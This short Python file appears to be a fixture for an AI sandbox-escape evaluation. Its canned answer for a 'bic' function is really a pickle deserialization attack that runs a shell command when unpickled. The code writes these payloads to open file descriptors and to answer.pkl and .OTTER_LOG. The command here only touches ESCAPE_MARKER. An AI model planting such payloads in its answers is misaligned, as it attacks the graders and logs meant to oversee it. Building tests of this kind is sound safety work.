"""Returns an object that runs a command when it is unpickled, and sends it as bytes, too."""

KIND = "channel"
GAINS = "others"
ANSWERS = {
    "bic": """
import os
import pickle

class Bomb:
    def __reduce__(self):
        return os.system, ("touch ESCAPE_MARKER",)

def bic(log_likelihood, num_components, dim, num_points):
    for fd in range(3, 64):
        try:
            os.write(fd, pickle.dumps(Bomb()))
        except OSError:
            pass
    for name in ("answer.pkl", ".OTTER_LOG"):
        with open(name, "wb") as file:
            pickle.dump(Bomb(), file)
    return Bomb()
"""
}
